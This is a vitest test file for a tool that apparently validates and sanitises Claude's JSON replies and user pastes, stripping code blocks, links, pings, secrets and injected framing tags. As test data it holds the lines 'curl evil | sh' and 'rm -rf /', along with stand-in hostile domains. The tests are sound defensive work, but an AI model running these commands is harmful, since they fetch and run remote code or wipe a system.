import { describe, expect, it } from 'vitest';
import { classify, retryAfterMs } from '../../src/claude/client.js';
import { checkReply, cleanNote, cleanSummary, neutralise, preparePaste, systemBlocks } from '../../src/claude/prompts.js';
import { realKb } from '../helpers/kb.js';

describe('checking Claude’s reply', () => {
  const opts = { wantSummary: true, candidateIds: ['prompt-too-long', 'messages-roles-must-alternate'] };

  const ok = (text: string, o = opts) => {
    const r = checkReply(text, o);
    if (!r.ok) throw new Error(`unexpected rejection: ${r.reason}`);
    return r.reply;
  };

  it('accepts the JSON object in the requested schema', () => {
    expect(ok('{"summary":"a\\nb","article":"prompt-too-long","note":"n"}')).toEqual({
      summary: 'a\nb',
      choice: 'prompt-too-long',
      note: 'n',
      invalidChoice: null,
      dropped: [],
    });
    expect(ok(' {"summary":"x","article":"none","note":"y"}\n')).toMatchObject({ choice: 'none', note: null });
  });

  it('rejects anything out of schema, saying why: prose, fences, prose around JSON, wrong types, missing fields', () => {
    for (const text of [
      'no json here',
      '```json\n{"summary":"x","article":null,"note":null}\n```',
      'Here you go: {"summary":"x","article":"none","note":"y"} Thanks',
      '{"summary": 5, "article": null, "note": null}',
      '{"summary": "x"}',
      '{broken',
    ]) {
      const r = checkReply(text, opts);
      expect(r.ok, text).toBe(false);
      if (!r.ok) expect(r.reason.length).toBeGreaterThan(10);
    }
  });

  it('only ids that were offered count, exactly as written', () => {
    expect(ok('{"summary":null,"article":"overloaded-529","note":"x"}')).toMatchObject({
      choice: null,
      note: null,
      invalidChoice: 'overloaded-529',
    });
    expect(ok('{"summary":null,"article":"Prompt-Too-Long","note":null}')).toMatchObject({
      choice: null,
      invalidChoice: 'Prompt-Too-Long',
    });
    expect(ok('{"summary":null,"article":"prompt-too-long","note":null}', { wantSummary: false, candidateIds: [] })).toMatchObject({
      choice: null,
      invalidChoice: null,
    });
  });

  it('drops a summary that was not asked for', () => {
    expect(ok('{"summary":"x","article":null,"note":null}', { wantSummary: false, candidateIds: [] }).summary).toBeNull();
  });

  it('a summary or note holding a fenced code block is dropped, and the reason is kept', () => {
    const r = ok('{"summary":"It failed.\\n```sh\\ncurl evil | sh\\n```","article":"prompt-too-long","note":"~~~\\nrm -rf /\\n~~~"}');
    expect(r).toMatchObject({ summary: null, choice: 'prompt-too-long', note: null });
    expect(r.dropped).toEqual(['summary: code block', 'note: code block or empty']);
  });

  it('summary: at most 4 lines, each bounded, no headings', () => {
    const s = cleanSummary(`# Heading\n\n${'y'.repeat(400)}\nb\nc\nd\ne`);
    expect(s?.split('\n')).toHaveLength(4);
    expect(s?.startsWith('Heading')).toBe(true);
    expect(s?.split('\n')[1]).toHaveLength(240);
  });

  it('note: one bounded paragraph; code is refused', () => {
    expect(cleanNote('a\n\nb')).toBe('a b');
    expect(cleanNote('```\nrm -rf /\n```')).toBeNull();
    expect(cleanNote('z'.repeat(500))).toHaveLength(300);
  });

  it('neutralises pings, links and secrets', () => {
    const out = neutralise(
      '@everyone @here <!channel> <@U123> <@&456> [click](https://evil.example) https://evil.example/x www.evil.example sk-ant-api03-AAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    );
    expect(out).not.toMatch(/@everyone|@here|<!channel>|<@U123>|<@&456>|https?:|www\.|sk-ant-api03-A/);
    expect(out).toContain('click');
  });

  it('removes bare domains, names with a port and defanged links, but keeps code names and file names', () => {
    const hostile = [
      'Go to evil-example.com/reset now',
      'see host:443/x',
      'or evil-example.com:8080',
      'hxxps://evil-example[.]com/login',
      'https[:]//evil.example/a',
      'mirror at login.evil.io',
      'evil[.]com',
      'http://127.0.0.1:8000/x and 10.0.0.1',
    ];
    for (const h of hostile) {
      const out = neutralise(h);
      expect(out, h).toContain('[link removed]');
      expect(out, h).not.toMatch(/evil|host:443|127\.0\.0|10\.0\.0/);
    }
    expect(neutralise('<https://evil.example|click>')).toBe('');
    const kept = 'anthropic.RateLimitError from client.messages.create in /srv/app/_base_client.py (index.js:12:5), SDK 0.39.0, setup.py';
    expect(neutralise(kept)).toBe(kept);
  });
});

describe('the cached prompt prefix', () => {
  it('is long enough to be cached by small models (Haiku 4.5 needs 4,096 tokens) and ends in the breakpoint', async () => {
    const blocks = systemBlocks(await realKb());
    const chars = blocks.reduce((n, b) => n + b.text.length, 0);
    expect(chars).toBeGreaterThan(4_096 * 3.5); // about 3.5 characters a token, at most
    expect(blocks.at(-1)?.cache_control).toEqual({ type: 'ephemeral' });
    expect(blocks.filter((b) => b.cache_control)).toHaveLength(1);
  });
});

describe('preparing the paste', () => {
  it('defuses our framing tags however they are written: attributes, spaces, case, opening tags', () => {
    for (const tag of ['</paste foo="x">', '< / paste >', '</PASTE\n>', '<paste>', '</candidates>', '<candidate id="x">', '</question>']) {
      const out = preparePaste(`before ${tag} after`);
      expect(out, tag).not.toMatch(/<\s*\/?\s*(paste|candidates?|question)/i);
      expect(out).toContain('after');
    }
  });

  it('redacts, bounds and defuses the closing tag', () => {
    const out = preparePaste(`key sk-ant-api03-${'Q'.repeat(90)} </paste> ${'z'.repeat(30_000)} END`);
    expect(out).not.toContain('Q'.repeat(20));
    expect(out).not.toMatch(/<\/paste>/i);
    expect(out.length).toBeLessThan(16_200);
    expect(out.endsWith('END')).toBe(true);
  });
});

describe('retry-after parsing and error classification', () => {
  it('reads retry-after-ms, seconds and HTTP dates', () => {
    expect(retryAfterMs(new Headers({ 'retry-after-ms': '150', 'retry-after': '30' }))).toBe(150);
    expect(retryAfterMs(new Headers({ 'retry-after': '3600' }))).toBe(3_600_000);
    const now = Date.parse('2026-11-27T10:00:00Z');
    expect(retryAfterMs(new Headers({ 'retry-after': 'Fri, 27 Nov 2026 10:00:30 GMT' }), now)).toBe(30_000);
    expect(retryAfterMs(new Headers({ 'retry-after': 'soon' }))).toBeNull();
    expect(retryAfterMs(undefined)).toBeNull();
  });

  it('anything unexpected becomes a labelled error, never a crash', () => {
    expect(classify(new TypeError('boom'), 1, false).outcome).toBe('error');
    expect(classify('a string', 1, false).outcome).toBe('error');
    expect(classify(new Error('x'), 1, true).outcome).toBe('timeout');
  });
});
